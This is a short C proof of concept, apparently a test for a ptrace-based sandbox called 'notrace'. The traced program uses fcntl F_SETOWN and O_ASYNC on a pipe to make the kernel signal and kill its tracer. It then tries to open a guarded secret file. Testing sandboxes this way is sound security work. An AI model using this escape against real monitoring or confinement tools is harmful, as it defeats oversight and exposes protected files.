// A tracee kills (or stops) notrace without naming it in any guarded call:
// fcntl(F_SETOWN, notrace's pid) + O_ASYNC makes the kernel send SIGIO
// (or the F_SETSIG signal) to notrace when the pipe becomes readable.
// usage: sigio_kill [SIGNUM] [PID]   (default: SIGIO to getppid())
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <signal.h>
#include <errno.h>
#include <string.h>
int main(int argc, char **argv) {
    int sig = argc > 1 ? atoi(argv[1]) : 0;
    pid_t target = argc > 2 ? atoi(argv[2]) : getppid();
    int p[2];
    if (pipe(p)) { perror("pipe"); return 1; }
    if (fcntl(p[0], F_SETOWN, target)) { printf("F_SETOWN: %s\n", strerror(errno)); return 1; }
    if (sig && fcntl(p[0], F_SETSIG, sig)) { printf("F_SETSIG: %s\n", strerror(errno)); return 1; }
    if (fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK)) { printf("F_SETFL: %s\n", strerror(errno)); return 1; }
    printf("sigio_kill: F_SETOWN %d ok, signal %d\n", target, sig ? sig : SIGIO);
    fflush(stdout);
    write(p[1], "x", 1);
    usleep(300000);
    int fd = open("/tmp/d/secret", O_RDONLY);
    printf("sigio_kill: open after: %d (%s)\n", fd, fd < 0 ? strerror(errno) : "ok");
    fd = open("/etc/hostname", O_RDONLY);
    printf("sigio_kill: open allowed file after: %d (%s)\n", fd, fd < 0 ? strerror(errno) : "ok");
    return 0;
}
